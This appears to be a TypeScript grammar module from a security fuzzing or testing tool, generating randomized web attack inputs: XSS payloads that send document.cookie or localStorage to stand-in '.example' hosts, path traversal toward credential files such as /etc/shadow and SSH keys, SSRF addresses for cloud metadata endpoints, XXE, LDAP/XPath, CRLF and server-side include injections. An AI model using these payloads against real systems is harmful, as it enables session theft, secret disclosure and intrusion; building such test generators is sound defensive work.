import type { Draw, Grammar } from './builtin-grammar.ts'

function call(draw: Draw): string {
  const n = draw.int(1, 999)
  const word = draw.word()
  return draw.of([
    `alert(${n})`,
    `alert\`${n}\``,
    `confirm(document.cookie)`,
    `eval(atob('${Buffer.from(word, 'utf8').toString('base64')}'))`,
    `fetch('//${word}.example/'+document.cookie)`,
    `location='//${word}.example/'+document.cookie`,
    `top['al'+'ert'](${n})`,
    `import('//${word}.example/a.js')`,
    `new Image().src='//${word}.example/'+localStorage.t`,
    `window.name&&eval(name)`,
    `(alert)(${n})`,
    `[${n}].map(alert)`,
    `document.body.innerHTML='${word}'`,
    `navigator.sendBeacon('//${word}.example',document.cookie)`,
    `self[atob('YWxlcnQ=')](${n})`,
    `throw onerror=alert,${n}`,
    `print()`,
    `setTimeout('alert(${n})')`,
    `Function('alert(${n})')()`,
    `$.getScript('//${word}.example')`,
  ])
}

const events = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbeforetoggle',
  'onauxclick',
  'onscrollend',
  'onwheel',
  'oncontentvisibilityautostatechange',
] as const

function element(draw: Draw): string {
  const slash = draw.of([' ', ' ', '/', '\t', '\n', '/**/'.slice(0, 1)])
  const event = draw.caseOf(draw.of(events))
  const quote = draw.of(['', '"', "'"])
  const code = call(draw)
  const inner =
    quote !== '' && code.includes(quote) ? code.replaceAll(quote, quote === '"' ? '&quot;' : '&#39;') : code
  const handler = `${event}${draw.of(['', '', ' '])}=${quote}${inner}${quote}`
  const scheme = draw.of([
    'javascript:',
    'JaVaScRiPt:',
    'java&#x73;cript:',
    'java\tscript:',
    '&#106;avascript:',
    ' javascript:',
    'javascript&colon;',
  ])
  return draw.of([
    `<${draw.caseOf('script')}>${code}</${draw.caseOf('script')}>`,
    `<script src=//${draw.word()}.example></script>`,
    `<script${slash}type=module>${code}</script >`,
    `<svg${slash}${handler}>`,
    `<img${slash}src=${draw.of(['x', '1', '//a.b/c'])} ${handler}>`,
    `<${draw.word()}${slash}${handler} tabindex=1>a`,
    `<details open ${handler}>`,
    `<video><source ${handler}></video>`,
    `<body ${handler}>`,
    `<input autofocus ${handler}>`,
    `<a href="${scheme}alert(1)">${draw.word()}</a>`,
    `<iframe src="${scheme}alert(1)">`,
    `<iframe srcdoc="<script>${draw.word()}()</script>">`,
    `<object data="data:text/html,<script>alert(1)</script>">`,
    `<form action=${scheme.trim()}alert(1)><input type=submit>`,
    `<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
    `<math href="javascript:alert(1)">a</math>`,
    `<button formaction=javascript:alert(1)>a`,
    `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
    `<base href=//${draw.word()}.example/>`,
    `<link rel=stylesheet href=//${draw.word()}.example/a.css>`,
    `<embed src=//${draw.word()}.example/a.swf>`,
    `<marquee ${handler}>a`,
    `<x style="animation-name:a" ${handler}>`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `<style>@import'//${draw.word()}.example';</style>`,
    `<portal src=//${draw.word()}.example>`,
    `<dialog open ${handler}>`,
  ])
}

/** Scripts for pages: elements, attributes, strings of a script, frameworks. */
export const script: Grammar = (draw) => {
  const head = draw.of([
    '',
    '',
    draw.word(),
    '">',
    "'>",
    '</title>',
    '</textarea>',
    '-->',
    '"/>',
    '</script>',
  ])
  const code = call(draw)
  const quote = draw.of(["'", '"'])
  switch (draw.int(0, 7)) {
    case 0:
      return `${draw.word()}${quote} ${draw.caseOf(draw.of(events))}=${quote === '"' ? code.replaceAll('"', '') : code.replaceAll("'", '')}${draw.of([' a=', '//', ` x=${quote}`])}`
    case 1:
      return `${quote}${draw.of([';', '-', '+', ')', ');', '||', ',', '*', '}; '])}${code}${draw.of(['//', `${draw.of([';', '-', '+'])}${quote}`, `;var ${draw.word()}=${quote}`])}`
    case 2:
      return `${draw.of(['javascript:', 'JAVASCRIPT:', ' javascript:', 'javascript://%0a', 'java\nscript:'])}${code}`
    case 3:
      return draw.of([
        `{{constructor.constructor('${draw.word()}()')()}}`,
        `<div ng-app ng-click="${draw.word()}()">`,
        `{{$on.constructor('alert(1)')()}}`,
        `<p v-html="${draw.word()}">`,
        `<a x-data x-init="alert(1)">`,
      ])
    default:
      return head + element(draw)
  }
}

const systemFiles = [
  'etc/passwd',
  'etc/shadow',
  'etc/hosts',
  'proc/self/environ',
  'windows/win.ini',
  'var/log/auth.log',
  'root/.ssh/id_rsa',
  'app/.env',
  'WEB-INF/web.xml',
  'etc/nginx/nginx.conf',
  '.git/config',
  'home/deploy/.bash_history',
  'proc/self/cmdline',
  'var/run/secrets/kubernetes.io/serviceaccount/token',
  'windows/system32/drivers/etc/hosts',
  'srv/app/config.json',
  'etc/ssl/private/server.key',
  'usr/src/app/package.json',
] as const

/** Paths that leave their folder. */
export const path: Grammar = (draw) => {
  const file = draw.of(systemFiles)
  const step = draw.of([
    '../',
    '../',
    '../',
    '..\\',
    '..%2f',
    '%2e%2e/',
    '%2e%2e%2f',
    '..%5c',
    '....//',
    '..%252f',
    '%252e%252e%252f',
    '..;/',
    '..%c0%af',
    '.%2e/',
    '..//',
    './../',
    '..\\/',
    '%c0%ae%c0%ae/',
    '..././',
  ])
  const climb = step.repeat(draw.int(2, 8))
  const end = draw.of(['', '', '', '%00.png', '\0', '?', '#', '/.'])
  const head = draw.of(['', '', '/', 'images/', './', `${draw.word()}/`, '/var/www/images/'])
  return draw.of([
    `${head}${climb}${file}${end}`,
    `${head}${climb}${file}${end}`,
    `${head}${climb}${file}${end}`,
    `/${draw.of(['etc/passwd', 'etc/shadow', 'etc/group', 'proc/self/environ', 'proc/self/maps', 'etc/hostname', 'var/log/nginx/access.log', 'etc/os-release'])}`,
    `${draw.of(['C:\\', 'c:/', 'file:///', 'file:///c:/'])}${draw.of(['windows/win.ini', 'boot.ini', 'etc/passwd', 'windows\\system32\\config\\sam'])}`,
    `php://filter/${draw.of(['convert.base64-encode', 'read=string.rot13', 'zlib.deflate'])}/resource=${draw.word()}.php`,
    `phar://${draw.word()}.jpg/a`,
    `\\\\${draw.word()}.example\\share\\a`,
  ])
}

function innerHost(draw: Draw): string {
  const a = draw.int(0, 255)
  const b = draw.int(1, 254)
  return draw.of([
    '127.0.0.1',
    '127.1',
    '0.0.0.0',
    'localhost',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '[0:0:0:0:0:ffff:7f00:1]',
    '169.254.169.254',
    '0xa9fea9fe',
    '2852039166',
    `10.${a}.${a}.${b}`,
    `192.168.${a}.${b}`,
    `172.${draw.int(16, 31)}.${a}.${b}`,
    'metadata.google.internal',
    'LOCALHOST',
    'localhost.',
    `${draw.word()}.internal`,
    `127.${a}.${a}.${b}`,
    '0x7f.1',
    '0251.0376.0251.0376',
    '[fd00:ec2::254]',
    '100.100.100.200',
    '①②⑦.⓪.⓪.①',
    '127。0。0。1',
    'kubernetes.default.svc',
    '[fe80::1]',
    '127.0.0.1.nip.io',
    'localtest.me',
    '0',
    '[::]',
    'redis',
    'host.docker.internal',
  ])
}

/** Addresses inside the network. */
export const innerAddress: Grammar = (draw) => {
  const host = innerHost(draw)
  const port = draw.of(['', '', ':80', ':8080', ':6379', ':9200', ':2375', ':22'])
  const rest = draw.of([
    '',
    '/',
    '/latest/meta-data/',
    '/admin',
    '/v1.24/containers/json',
    '/computeMetadata/v1/',
    `/${draw.word()}`,
  ])
  return draw.of([
    `http://${host}${port}${rest}`,
    `http://${host}${port}${rest}`,
    `https://${host}${port}${rest}`,
    `http://${draw.word()}@${host}${port}${rest}`,
    `http://example.org@${host}${rest}`,
    `http://example.org:80@${host}${rest}`,
    `HTTP://${host}${rest}`,
    `http:/${host}${rest}`,
    `//${host}${port}${rest}`,
    `gopher://${host}:6379/_INFO`,
    `dict://${host}:11211/stat`,
    `ftp://${host}/`,
    `file:///etc/passwd#${draw.word()}`,
    `ldap://${host}:389/`,
    `http:\\\\${host}${rest}`,
    `jar:http://${host}/a.jar!/`,
    `netdoc:///etc/${draw.word()}`,
    `sftp://${host}/${draw.word()}`,
    `tftp://${host}/${draw.word()}`,
  ])
}

/** XML with entities and inclusions. */
export const xml: Grammar = (draw) => {
  const word = draw.word()
  const uri = draw.of([
    `file:///etc/passwd`,
    `http://${word}.example/a`,
    `php://filter/read=convert.base64-encode/resource=a`,
    `expect://id`,
    `jar:file:///a!/b`,
    `netdoc:///etc`,
    `ftp://${word}.example`,
  ])
  const head = draw.of([
    '',
    '<?xml version="1.0"?>',
    '<?xml version="1.0" encoding="UTF-8"?>\n',
    '<?xml version="1.0" standalone="no"?>',
  ])
  return draw.of([
    `${head}<!DOCTYPE ${word} [<!ENTITY ${word} SYSTEM "${uri}">]><${word}>&${word};</${word}>`,
    `${head}<!DOCTYPE ${word} [ <!ENTITY % ${word} SYSTEM '${uri}'> %${word}; ]><a/>`,
    `${head}<!DOCTYPE ${word} SYSTEM "${uri}"><a/>`,
    `${head}<!DOCTYPE ${word} PUBLIC "-//A//B//EN" "${uri}"><a/>`,
    `${head}<!DOCTYPE a [<!ENTITY b "${word}"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;">]><a>&d;</a>`,
    `${head}<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${uri}"/></a>`,
    `${head}<!DOCTYPE\n${word}\n[<!ELEMENT ${word} ANY><!ENTITY\t${word}\tPUBLIC "x" "${uri}">]><${word}>&${word};</${word}>`,
    `${head}<?xml-stylesheet href="${uri}"?><a/>`,
    `${head}<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${uri}"/></xsl:stylesheet>`,
  ])
}

/** Filters of a directory and paths of XML queries, left and gone on with. */
export const directory: Grammar = (draw) => {
  const word = draw.word()
  const name = draw.of(['uid', 'cn', 'objectClass', 'userPassword', 'mail', 'sn', 'memberOf'])
  return draw.of([
    `*)(${name}=*`,
    `*)(${name}=*))(|(${name}=*`,
    `${word})(|(${name}=*)`,
    `${word}*)(${name}=${word}*`,
    `*))%00`,
    `${word})(&)`,
    `${word})(${name}=*))%00`,
    `*(|(${name}=*))`,
    `*)(|(&`,
    `(|(${name}=*)(${name}=${word}))`,
    `${word})(!(&(${name}=0)`,
    `*)((|${name}=*)`,
    `admin*)((|userpassword=*)`,
    `*)(uid=*))(&(uid=*`,
    `${word}))(|(${name}=*`,
    `)(${name}=\\2a`,
    `' or '${word}'='${word}`,
    `'] | //user/*[contains(*,'${word}`,
    `' or count(//${word})>0 or 'a'='b`,
    `${word}' or name()='${word}' or 'a'='b`,
    `'] | //* | //*['`,
    `" or substring(//user[1]/password,1,1)="a`,
    `' or position()=${draw.int(1, 9)} or ''='`,
  ])
}

/** Line ends that start a header or a second response. */
export const headerLine: Grammar = (draw) => {
  const end = draw.of(['\r\n', '\n', '\r\n\r\n', '\r', '%0d%0a', '\r\n\t'.slice(0, 2)])
  const word = draw.word()
  return `${draw.of(['', word, `/${word}`, `https://example.org/${word}`])}${end}${draw.of([
    `Set-Cookie: ${word}=1`,
    `set-cookie:sid=${word}`,
    `Location: https://${word}.example`,
    `Content-Length: 0\r\n\r\nHTTP/1.1 200 OK`,
    `Content-Type: text/html\r\n\r\n<script>alert(1)</script>`,
    `X-Accel-Redirect: /${word}`,
    `Access-Control-Allow-Origin: *`,
    `HTTP/1.1 200 OK\r\nContent-Type: text/html`,
    `Link: </${word}>; rel=preload`,
    `X-XSS-Protection: 0`,
    `Refresh: 0;url=//${word}.example`,
    `Content-Security-Policy: default-src *`,
    `Host: ${word}.example`,
    `Transfer-Encoding: chunked`,
    `GET /${word} HTTP/1.1\r\nHost: a`,
    `X-Forwarded-For: 127.0.0.1`,
  ])}`
}

/** Line ends that add recipients or commands to a mail. */
export const mailLine: Grammar = (draw) => {
  const end = draw.of(['\r\n', '\n', '%0a', '%0d%0a', '\r'])
  const word = draw.word()
  return `${draw.of([`${word}@example.org`, word, `Re: ${word}`])}${end}${draw.of([
    `Bcc: ${word}@example.net`,
    `bcc:${word}@example.net`,
    `Cc: a@example.net, b@example.net`,
    `To: ${word} <${word}@example.net>`,
    `Subject: ${word}`,
    `Content-Type: multipart/mixed; boundary=${word}`,
    `MIME-Version: 1.0`,
    `From: ${word}@example.net`,
    `Reply-To: ${word}@example.net`,
    `RCPT TO:<${word}@example.net>`,
    `DATA\r\n${word}`,
    `.\r\nMAIL FROM:<${word}@example.net>`,
    `Content-Transfer-Encoding: base64`,
    `QUIT`,
    `A1 LOGOUT`,
    `V100 SELECT INBOX`,
    `RSET\r\nMAIL FROM:<a@example.net>`,
  ])}`
}

/** Directives of server-side includes. */
export const include: Grammar = (draw) => {
  const word = draw.word()
  return draw.of([
    `<!--#exec cmd="${draw.of(['id', 'ls', `cat ${word}`])}"-->`,
    `<!--#include virtual="/${word}"-->`,
    `<!--#include file="${word}.txt" -->`,
    `<!--#echo var="DATE_LOCAL"-->${word}`,
    `<!--#printenv -->${word}`,
    `<!-- #exec cmd="id ${word}" -->`,
    `<!--#config errmsg="${word}"-->`,
    `<!--#fsize file="${word}"-->`,
    `<!--#set var="${word}" value="1" -->`,
    `<esi:include src="http://${word}.example/"/>`,
    `<esi:include src="/${word}" onerror="continue"/>`,
    `<!--esi <esi:vars>$(HTTP_COOKIE)</esi:vars> -->${word}`,
    `<!--#exec cgi="/cgi-bin/${word}.cgi"-->`,
    `<!--#flastmod virtual="${word}"-->`,
    `<!--#if expr="${word}" -->`,
  ])
}

/** Drawings that run a script: contents of an uploaded file. */
export const drawing: Grammar = (draw) => {
  const code = call(draw).replaceAll('"', "'")
  const open = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"'
  return draw.of([
    `${open}><script>${code}</script></svg>`,
    `${open} onload="${code}"><path d="M0 0h8v8z"/></svg>`,
    `<?xml version="1.0"?>\n${open}><script type="text/ecmascript"><![CDATA[${code}]]></script></svg>`,
    `${open}><a href="javascript:alert(1)"><text y="5">a</text></a></svg>`,
    `${open}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject></svg>`,
    `${open}><image href="x" onerror="${code}"/></svg>`,
    `${open}><set attributeName="onmouseover" to="alert(1)"/></svg>`,
    `${open}><animate onbegin="${code}" attributeName="x" dur="1s"/></svg>`,
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>${open}><text>&x;</text></svg>`,
    `${open}><use href="data:image/svg+xml,&lt;svg id='x' onload='alert(1)'/&gt;#x"/></svg>`,
    `${open}><script href="https://${draw.word()}.example/a.js"/></svg>`,
  ])
}
